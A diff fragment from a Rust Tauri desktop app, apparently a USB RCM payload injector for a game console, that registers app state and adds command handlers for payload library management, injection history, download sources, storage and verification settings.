+            app.manage(InjectionHistory::open(
+                storage.data_dir.join(history::HISTORY_FILE),
+            ));
+            app.manage(storage);
+            let library = PayloadLibrary::open(storage::library_dir(app.handle()));
+            storage::migrate_legacy_library(app.handle(), &library);
+            app.manage(library);
+
+            monitor::start(app.handle().clone());
+            Ok(())
+        })
         .invoke_handler(tauri::generate_handler![
             greet,
-            detect_rcm_device,
             get_rcm_status,
             list_usb_devices,
             inject_payload,
+            inject_when_ready,
+            cancel_wait_for_device,
+            auto_inject::get_auto_inject_settings,
+            auto_inject::set_auto_inject_settings,
+            inspect_payload,
             download_payload,
+            cancel_download,
+            logging::recent_logs,
+            history::query_history,
+            history::export_history,
+            history::clear_history,
+            library::list_library,
+            library::import_payloads,
+            library::delete_payload,
+            library::pin_payload,
+            library::prune_library,
+            releases::list_releases,
+            releases::get_release_settings,
+            releases::set_release_settings,
+            sources::list_sources,
+            sources::add_source,
+            sources::remove_source,
+            sources::reset_sources,
+            sources::refresh_sources,
+            storage::get_storage_info,
+            storage::set_library_dir,
+            strategy::list_strategies,
+            strategy::get_strategy_settings,
+            strategy::set_strategy_settings,
+            verify::get_verification_settings,
+            verify::set_verification_settings,
             open_url,
             get_app_version
         ])